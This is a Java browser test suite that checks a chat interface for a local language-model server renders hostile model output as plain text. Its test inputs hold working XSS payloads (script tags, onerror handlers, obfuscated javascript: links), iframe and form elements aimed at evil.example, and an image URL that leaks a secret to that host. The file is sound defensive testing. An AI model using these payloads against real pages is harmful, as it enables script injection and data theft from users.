package dev.quollama.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static dev.quollama.support.OllamaSteps.answer;
import static dev.quollama.support.OllamaSteps.failure;
import static dev.quollama.support.OllamaSteps.json;
import static dev.quollama.support.OllamaSteps.thinking;
import static dev.quollama.support.WireSteps.hang;
import static org.junit.jupiter.api.Assertions.assertNull;

import com.microsoft.playwright.Locator;
import dev.quollama.support.Recording;
import dev.quollama.support.Script;
import dev.quollama.support.ScriptedOllamaResource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** A model, or whoever it quotes, writes something that wants to be more than text. */
@QuarkusTest
@WithTestResource(ScriptedOllamaResource.class)
class HostileAnswerTest extends BrowserTest {

    private static final String ACTIVE =
            "script, img, iframe, object, embed, style, form, svg:not(.icon):not(.mark), [onerror], [onclick], [onload]";

    @Test
    void htmlIsShownAsItWasWritten() {
        String html = """
                <script>window.hit = 1</script>

                <img src=x onerror="window.hit = 2">

                Inline <b onclick="window.hit = 3">bold</b> and <iframe src="https://evil.example"></iframe>.

                <svg onload="window.hit = 4"></svg>

                <style>body { display: none }</style>

                <form action="https://evil.example"><input name=secret></form>
                """;
        ChatPage chat = answered(html);
        assertThat(chat.text()).containsText("<script>window.hit = 1</script>");
        assertThat(chat.text()).containsText("<img src=x onerror=\"window.hit = 2\">");
        assertThat(chat.text()).containsText("Inline <b onclick=\"window.hit = 3\">bold</b> and <iframe");
        assertHarmless(chat);
    }

    @Test
    void htmlInOtherPartsIsTextToo() {
        ChatPage chat = answered("""
                - <img src=x onerror=window.hit=1>
                > <script>window.hit=2</script>

                | <img src=x onerror=window.hit=3> |
                |---|
                | <svg/onload=window.hit=4> |

                # <script>window.hit=5</script>

                ```"><script>window.hit=6</script>
                </code></pre><script>window.hit=7</script>
                ```
                """);
        assertThat(chat.text().locator("td")).hasText("<svg/onload=window.hit=4>");
        assertThat(chat.text().locator("pre")).hasText("</code></pre><script>window.hit=7</script>");
        assertHarmless(chat);
    }

    @Test
    void onlyWebAndMailAddressesBecomeLinks() {
        String bad = Stream.of(
                        "javascript:window.hit=1",
                        "JaVaScRiPt:window.hit=1",
                        "java&#115;cript:window.hit=1",
                        "javascript&colon;window.hit=1",
                        "&#x6a;avascript:window.hit=1",
                        "\u0001javascript:window.hit=1",
                        "vbscript:window.hit=1",
                        "data:text/html,<script>window.hit=1</script>",
                        "file:///etc/passwd",
                        "blob:https://evil.example/1",
                        "//evil.example/",
                        "/api/models")
                .map(target -> "[a](<%1$s>) ![b](<%1$s>) <%1$s>\n\n".formatted(target))
                .collect(Collectors.joining());
        ChatPage chat = answered(bad + "[ref]\n\n[ref]: javascript:window.hit=2\n\n"
                + "[web](https://example.org) <me@example.org> http://example.org");
        assertThat(chat.text().locator("a")).hasText(new String[] {"web", "me@example.org", "http://example.org"});
        assertHarmless(chat);
    }

    @Test
    void aPictureIsALinkAndIsNeverFetched() {
        ChatPage chat =
                answered("![my secret](https://evil.example/pixel.png?q=secret) ![](http://evil.example/b.gif)");
        Locator links = chat.text().locator("a.image-link");
        assertThat(links).hasCount(2);
        assertThat(links.first()).hasText("my secret");
        assertThat(links.first()).hasAttribute("href", "https://evil.example/pixel.png?q=secret");
        assertThat(links.first()).hasAttribute("rel", "noopener noreferrer nofollow");
        // That nobody asked evil.example for it is checked after each test.
        assertHarmless(chat);
    }

    @Test
    void whatActsWithoutBeingSeenIsMadeVisible() {
        ChatPage chat = answered("user\u202egpj.exe and \u2066isolated\u2069, a \u0000 NUL, an \u001b[31m escape");
        assertThat(chat.text()).hasText("user⟦U+202E⟧gpj.exe and ⟦U+2066⟧isolated⟦U+2069⟧, a ␀ NUL, an ␛[31m escape");
    }

    @Test
    void aRightToLeftParagraphTurnsNothingElseAround() {
        ChatPage chat = answered("Left to right.\n\nשלום עולם\n\nLeft again.");
        assertThat(chat.text().locator("p").nth(1)).hasCSS("direction", "rtl");
        assertThat(chat.text().locator("p").nth(2)).hasCSS("direction", "ltr");
    }

    @Test
    void thoughtsAreTreatedAsTheAnswerIs() {
        ollama.enqueue(Script.of(thinking("<img src=x onerror=window.hit=1> [x](javascript:window.hit=2)"), hang()));
        ChatPage chat = open();
        chat.ask("hi");
        assertThat(chat.page().locator("thinking-pane .thinking-text"))
                .containsText("<img src=x onerror=window.hit=1>");
        assertThat(chat.page().locator("thinking-pane a")).hasCount(0);
        assertHarmless(chat);
    }

    @Test
    void questionsAreTextToo() {
        ChatPage chat = open();
        chat.askAndWait("<img src=x onerror=window.hit=1>");
        assertThat(chat.questions()).hasText("<img src=x onerror=window.hit=1>");
        assertHarmless(chat);
    }

    @Test
    void anErrorOfOllamasIsTextToo() {
        ollama.enqueue(failure(500, "<img src=x onerror=window.hit=1>"));
        ChatPage chat = open();
        chat.ask("hi");
        assertThat(chat.failure()).containsText("<img src=x onerror=window.hit=1>");
        assertHarmless(chat);
    }

    @Test
    void aModelsNameIsTextToo() {
        ollama.on("GET", "/api/tags", json("""
                {"models":[{"name":"<img src=x onerror=window.hit=1>","size":1,"details":{"parameter_size":"<b>9</b>"},
                "capabilities":["completion","<script>"]}]}"""));
        ChatPage chat = open();
        assertThat(chat.picker()).hasText("<img src=x onerror=window.hit=1>");
        chat.picker().click();
        assertThat(chat.models()).containsText("<b>9</b>");
        chat.page().keyboard().press("Enter");
        chat.askAndWait("hi");
        assertHarmless(chat);
    }

    @Test
    void whatARealModelOnceBabbledIsHarmless() throws Exception {
        ollama.enqueue(Recording.read("chat-stream-hostile-markdown").replay());
        ChatPage chat = open();
        chat.askAndWait("hi");
        assertThat(chat.text()).containsText("<script>alert(1)</script> world</textarea>");
        assertHarmless(chat);
    }

    @Test
    void endlessNestingNeitherHangsNorBreaksThePage() {
        ChatPage chat = answered(
                "> ".repeat(5_000) + "deep\n\n" + "*a ".repeat(20_000) + "\n\n" + "[".repeat(5_000) + "\n\nthe end");
        assertThat(chat.text()).containsText("the end");
        chat.askAndWait("Still there?");
        assertThat(chat.text()).hasText("Hello from a script");
    }

    private ChatPage answered(String text) {
        ollama.enqueue(answer(text));
        ChatPage chat = open();
        chat.askAndWait("hi");
        return chat;
    }

    private static void assertHarmless(ChatPage chat) {
        assertThat(chat.page().locator("chat-turn").locator(ACTIVE)).hasCount(0);
        assertNull(chat.page().evaluate("window.hit ?? null"));
    }
}
